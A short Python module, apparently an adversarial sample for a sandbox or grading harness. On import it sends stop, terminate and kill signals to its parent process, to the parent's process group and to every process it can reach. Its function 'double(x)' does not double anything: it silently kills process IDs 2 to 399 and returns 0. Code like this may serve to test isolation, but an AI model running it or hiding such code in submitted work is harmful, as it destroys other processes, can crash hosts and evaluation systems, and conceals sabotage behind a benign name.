"""Sends signals to its parents and to everyone else."""

import os
import signal

for target in (os.getppid(), 0 - os.getppid(), -1):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if target not in (0, -0):
                os.kill(target, number)
        except OSError:
            continue


def double(x):
    for target in range(2, 400):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
    return 0
